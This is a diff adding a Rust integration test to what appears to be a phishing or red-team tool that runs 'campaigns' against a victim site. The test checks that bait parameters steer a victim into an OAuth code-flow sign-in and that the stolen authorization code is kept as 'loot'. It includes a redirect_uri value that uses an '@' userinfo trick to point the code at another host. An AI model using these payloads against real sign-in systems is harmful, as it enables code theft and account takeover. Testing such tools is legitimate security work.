@@ -144,6 +144,38 @@ async fn the_attacker_reads_at_home_what_was_written_into_his_account() {
 }
 
 #[tokio::test]
+async fn a_bait_leads_into_somebody_elses_sign_in_and_a_code_that_comes_is_kept() {
+    let site = Site::open().await;
+    let campaign = site.begin().await;
+    let victim = site.house.origin.to_string();
+    let attack = format!("/campaigns/{campaign}/code-flow?sandbox=default&done=/heartbeat");
+    let back = "return_to=http%3A%2F%2Flocalhost%3A3000%2Fheartbeat";
+    for (bait, leads_to) in [
+        ("answer=code%3Da%26state%3Db", format!("{VICTIM}/code-flow/callback?code=a&amp;state=b&amp;{back}")),
+        ("image=code%3Da", "src=\"http://localhost:3000/sign-in/idp/callback?code=a".to_owned()),
+        // What begins with the victim's origin, and is an address here.
+        (
+            "question=state%3Db",
+            "redirect_uri=http%3A%2F%2Flocalhost%3A3000%40127.0.0.1%3A4000%2Fcampaigns".to_owned(),
+        ),
+    ] {
+        let (status, policy, text) = page(&site, HERE, &format!("{attack}&{bait}")).await;
+        assert_eq!(status, 200);
+        assert!(text.contains(&leads_to), "{leads_to}: {text}");
+        assert!(policy.contains("script-src 'self'"), "{policy}");
+    }
+    assert_eq!(page(&site, HERE, "/code_flow.js").await.0, 200);
+
+    let (status, _, _) =
+        page(&site, HERE, &format!("/campaigns/{campaign}/code?sandbox=default&done=/heartbeat&code=c0de"))
+            .await;
+    assert_eq!(status, 303, "and the browser goes on to {victim}");
+    assert_eq!(site.inbox(&campaign).await["loot"][0]["text"], "{\"code\":\"c0de\"}");
+    let nobodys = "/campaigns/nobodys/code?sandbox=default&done=/&code=c0de";
+    assert_eq!(page(&site, HERE, nobodys).await.0, 404);
+}
+
+#[tokio::test]
 async fn it_plants_a_cookie_only_when_it_is_asked_to() {
     let site = Site::open().await;
     let attack = format!("/campaigns/{}/login-csrf?sandbox=default&done=/", site.begin().await);
